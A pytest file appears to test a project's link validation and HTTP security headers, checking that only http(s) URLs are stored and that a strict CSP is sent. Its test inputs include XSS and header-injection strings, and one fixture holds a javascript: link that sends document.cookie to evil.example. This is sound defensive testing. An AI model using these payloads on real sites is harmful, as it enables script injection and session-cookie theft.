"""Stored links are http(s) only, and every response carries the security headers."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from geoledger.api import create_app
from geoledger.config import Settings
from geoledger.ingest import read_document
from geoledger.links import web_url
from geoledger.pipeline.ingest import ingest_paths
from geoledger.store import get_source, make_engine

CSP = (
    "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; "
    "img-src 'self' data:; object-src 'none'; base-uri 'none'; form-action 'self'; "
    "frame-ancestors 'none'"
)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("https://example.org/a?b=1", "https://example.org/a?b=1"),
        ("  HTTP://example.org  ", "HTTP://example.org"),
        ("javascript:alert(1)", None),
        ("JavaScript:alert(1)", None),
        ("java\tscript:alert(1)", None),
        (" data:text/html,<script>alert(1)</script>", None),
        ("vbscript:msgbox", None),
        ("//evil.example/x", None),
        ("http://", None),
        ("https://example.org/\nSet-Cookie: x", None),
        ("http://[::1", None),
    ],
)
def test_only_http_and_https_links_pass(given: str, kept: str | None) -> None:
    assert web_url(given) == kept


def test_a_javascript_link_in_front_matter_is_not_stored_or_rendered(tmp_path: Path) -> None:
    doc_path = tmp_path / "trap.md"
    doc_path.write_text(
        "---\ntitle: Trap\nurl: javascript:fetch('//evil.example/'+document.cookie)\n---\n\n"
        "Serbia and China signed a loan of $5 million in 2020.\n",
        encoding="utf-8",
    )
    assert read_document(doc_path).url is None
    db = f"sqlite:///{tmp_path / 'ledger.db'}"
    engine = make_engine(db)
    report = ingest_paths(engine, [str(doc_path)])
    assert report.new_documents == 1
    with engine.connect() as conn:
        assert get_source(conn, "trap.md").url is None
    engine.dispose()
    client = TestClient(create_app(Settings(database_url=db, api_token="x")))
    page = client.get("/sources/trap.md")
    assert page.status_code == 200
    assert 'href="javascript' not in page.text.lower() and ">original</a>" not in page.text


def test_claims_add_refuses_a_javascript_source_link(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    db = str(tmp_path / "ledger.db")
    assert cli("--db", db, "load").exit_code == 0
    result = cli(
        "--db",
        db,
        "claims",
        "add",
        "--metric",
        "trade.total",
        "--value",
        "5",
        "--unit",
        "USD",
        "--source-title",
        "Bulletin",
        "--source-url",
        "javascript:alert(1)",
    )
    assert (result.exit_code, result.output) == (
        1,
        "error: Source 'entered_bulletin': link 'javascript:alert(1)' is not an http or https "
        "URL; only those are stored.\n",
    )


@pytest.fixture
def client(bundled_db: Path) -> Any:
    return TestClient(create_app(Settings(database_url=f"sqlite:///{bundled_db}", api_token="x")))


@pytest.mark.parametrize("path", ["/", "/api/sources", "/claims/c001", "/nothing/here", "/api/x"])
def test_every_response_carries_the_security_headers(client: TestClient, path: str) -> None:
    response = client.get(path)
    assert response.headers["content-security-policy"] == CSP
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"


def test_the_api_docs_page_runs_its_vendored_bundle_and_names_no_other_host(
    client: TestClient,
) -> None:
    response = client.get("/docs")
    assert response.status_code == 200
    csp = response.headers["content-security-policy"]
    assert "script-src 'self' 'unsafe-inline'" in csp and "frame-ancestors 'none'" in csp
    assert "https://" not in csp
